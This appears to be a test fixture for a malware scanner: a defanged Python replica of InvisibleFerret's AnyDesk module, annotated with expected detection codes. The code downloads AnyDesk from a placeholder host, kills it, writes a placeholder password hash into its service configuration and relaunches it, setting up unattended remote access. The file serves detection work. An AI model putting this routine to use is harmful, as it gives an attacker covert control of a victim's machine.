# Defanged replica of a Python "AnyDesk module" (InvisibleFerret's adc/
# ssh_any): it fetches AnyDesk when it is missing and writes a password hash
# into its service configuration so the attacker can connect unattended. The
# download host is .invalid and the hash and salt are placeholders.
import os
import subprocess
import urllib.request

ANYDESK = "C:/Program Files (x86)/AnyDesk/AnyDesk.exe"  # expect: HS236 high
CONF = os.path.join(os.environ.get("ProgramData", "C:/ProgramData"), "AnyDesk", "service.conf")
SETTINGS = [
    "ad.anynet.pwd_hash=0000000000000000000000000000000000000000000000000000000000000000",
    "ad.anynet.pwd_salt=00000000000000000000000000000000",
]


def ensure_anydesk():
    if not os.path.exists(ANYDESK):
        urllib.request.urlretrieve("https://dl.example.invalid/AnyDesk.exe", "AnyDesk.exe")
        return os.path.abspath("AnyDesk.exe")
    return ANYDESK


def configure():
    exe = ensure_anydesk()
    subprocess.call(["taskkill", "/F", "/IM", "AnyDesk.exe"])
    with open(CONF, "a") as f:
        f.write("\n".join(SETTINGS) + "\n")
    subprocess.Popen([exe])  # expect: HS107 critical
